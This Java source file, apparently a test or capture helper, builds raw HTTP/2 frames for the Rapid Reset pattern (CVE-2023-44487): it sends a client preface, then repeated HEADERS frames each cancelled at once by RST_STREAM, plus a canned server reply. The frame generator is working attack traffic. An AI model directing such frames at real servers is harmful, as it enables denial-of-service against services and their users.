package io.weir.capture.load;

import java.io.ByteArrayOutputStream;
import java.nio.ByteBuffer;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.HexFormat;
import java.util.List;

/** What a tool sends over HTTP/2 that takes its requests back at once (RFC 9113, CVE-2023-44487). */
final class Http2Frames {
    private static final int HEADERS = 1;
    private static final int RST_STREAM = 3;
    private static final int SETTINGS = 4;
    private static final int END_STREAM_AND_HEADERS = 5;
    private static final byte[] PREFACE = "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n".getBytes(StandardCharsets.US_ASCII);
    /** GET, http, / of the static table; authority and user agent as texts, then as fields 63 and 62 of the dynamic one. */
    private static final byte[] FIRST_FIELDS = HexFormat.of().parseHex("8286844103657861" + "7a03626f74");

    private static final byte[] FIELDS = HexFormat.of().parseHex("828684bfbe");
    private static final byte[] CANCEL = {0, 0, 0, 8};
    private static final byte[] OK = {(byte) 0x88};

    private Http2Frames() {}

    /** By request of a connection, the first with the client's preface. */
    static List<byte[]> resets(int count) {
        List<byte[]> requests = new ArrayList<>();
        for (int n = 0; n < count; n++) {
            int stream = 2 * n + 1;
            ByteArrayOutputStream out = new ByteArrayOutputStream();
            if (n == 0) {
                out.writeBytes(PREFACE);
                out.writeBytes(frame(SETTINGS, 0, 0, new byte[0]));
            }
            out.writeBytes(frame(HEADERS, END_STREAM_AND_HEADERS, stream, n == 0 ? FIRST_FIELDS : FIELDS));
            out.writeBytes(frame(RST_STREAM, 0, stream, CANCEL));
            requests.add(out.toByteArray());
        }
        return requests;
    }

    /** A server's answer to the first of them. */
    static byte[] answer() {
        return frame(HEADERS, END_STREAM_AND_HEADERS, 1, OK);
    }

    private static byte[] frame(int type, int flags, int stream, byte[] content) {
        return ByteBuffer.allocate(9 + content.length)
                .put((byte) 0)
                .putShort((short) content.length)
                .put((byte) type)
                .put((byte) flags)
                .putInt(stream)
                .put(content)
                .array();
    }
}
